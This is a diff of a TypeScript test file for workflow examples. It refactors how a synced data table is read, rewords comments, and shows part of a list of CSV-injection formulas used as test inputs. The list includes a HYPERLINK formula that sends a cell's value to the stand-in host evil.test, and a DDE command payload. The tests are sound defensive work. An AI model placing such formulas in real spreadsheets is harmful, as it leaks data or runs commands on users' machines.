@@ -2,13 +2,12 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { makeSpreadsheet } from '../../../dev/demo/demo';
 import { SPREADSHEET } from '../../../dev/demo/examples';
-import { chain, node, START } from '../../../dev/host/template';
-import { example, standIn } from '../examples';
+import { example, standIn, syncedRows } from '../examples';
 import { by, type Row, rowsOf } from '../stage';
 import { stage, store } from './stage';
 import { hold, STORIES } from './stories';
 
-/** Texts as they are, rows by name. */
+/** Rows are sorted by name, texts as they are. */
 const keyOf = (found: unknown) => String((found as Row)['name'] ?? found);
 const sorted = (all: unknown[]) => [...all].sort((a, b) => (keyOf(a) < keyOf(b) ? -1 : 1));
 
@@ -17,11 +16,11 @@ it.each(STORIES)('$file', async ({ file, node: last, trigger, projects, read, st
 	const draft = await example(file, { [last]: standIn });
 	const workflow = trigger ? undefined : await stage.publish(draft);
 	for (const [act, ...expected] of steps) {
-		// What is created in the second in which the trigger began counts as existing.
+		// A project created in the second in which the trigger began counts as existing.
 		await sleep(1_000);
 		act();
 		const found: unknown[] = [];
-		// What happens at once may be found by two polls.
+		// Two polls may find what happens in one step.
 		while (found.length < expected.length) {
 			const execution = await (workflow ? stage.next(workflow) : stage.run(draft, trigger));
 			found.push(...read(rowsOf(execution, last)));
@@ -33,13 +32,7 @@ it.each(STORIES)('$file', async ({ file, node: last, trigger, projects, read, st
 
 it('sync-projects-to-data-table.json makes and fills the table, then keeps it', async () => {
 	hold([{ name: 'A' }, { name: 'B', updated_at: '2026-01-01T00:00:00Z' }, { name: 'C' }]);
-	/** As another workflow of the same person would read it. */
-	const dataTableId = { __rl: true, mode: 'name', value: 'collab_projects' };
-	const all = { resource: 'row', operation: 'get', dataTableId, returnAll: true };
-	const reader = node('Rows', 'n8n-nodes-base.dataTable', all, { typeVersion: 1.1 });
-	const table = async () =>
-		by('name', rowsOf(await stage.run(chain('Read the table', [START, reader])), 'Rows'));
-
+	const table = async () => by('name', await syncedRows(stage));
 	const workflow = await stage.publish(await example('sync-projects-to-data-table.json'));
 	await stage.next(workflow);
 	expect(await table()).toMatchObject([{ name: 'A' }, { name: 'B' }, { name: 'C' }]);
@@ -61,7 +54,7 @@ it('sync-projects-to-data-table.json makes and fills the table, then keeps it', 
 	expect(others).toMatchObject([{ name: 'C' }, { name: 'D' }]);
 });
 
-/** What a spreadsheet program takes for a formula (OWASP, "CSV Injection"). */
+/** A spreadsheet program takes these for formulas (OWASP, "CSV Injection"). */
 const FORMULAS = [
 	...['=HYPERLINK("https://evil.test/?"&A1,"Open")', '+1+1', '-1+1', '@SUM(1,1)'],
 	...["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1'],
